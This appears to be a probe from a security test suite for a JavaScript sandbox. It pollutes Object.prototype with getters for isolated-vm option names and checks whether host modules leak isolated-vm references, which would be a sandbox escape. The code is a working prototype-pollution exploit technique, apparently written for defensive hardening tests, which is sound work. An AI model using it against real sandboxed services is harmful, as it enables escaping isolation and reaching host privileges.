// Tries: options of isolated-vm that its host did not give, through the prototype of all objects
// Contained by: nothing
// With: look
function attack() {
  const { defineProperty } = Object
  const names = ['reference', 'copy', 'externalCopy', 'promise', 'release', 'result', 'arguments', 'unsafeInherit', 'accessors', 'timeout', 'ignored', 'sync', 'async', 'transferIn', 'transferOut', 'transferList']
  for (const name of names) {
    let asked = 0
    defineProperty(Object.prototype, name, {
      configurable: true,
      get() {
        if (asked++ < 5) look(`the asker for ${name}`, this)
        return name === 'timeout' ? 1 : true
      },
    })
  }
  const got = []
  try {
    got[got.length] = require('integrator-api').jobs.get('x')
  } catch (error) {
    got[got.length] = error
  }
  try {
    got[got.length] = console.log({})
    got[got.length] = require('dayjs')
  } catch (error) {
    got[got.length] = error
  }
  for (const name of names) delete Object.prototype[name]
  for (const value of got) {
    look('what was answered', value)
    if (value && (value.applySync || value.derefInto || value.copySync)) reached.push('a reference of isolated-vm')
  }
  return reached.length > 0 ? reached : 'nothing'
}
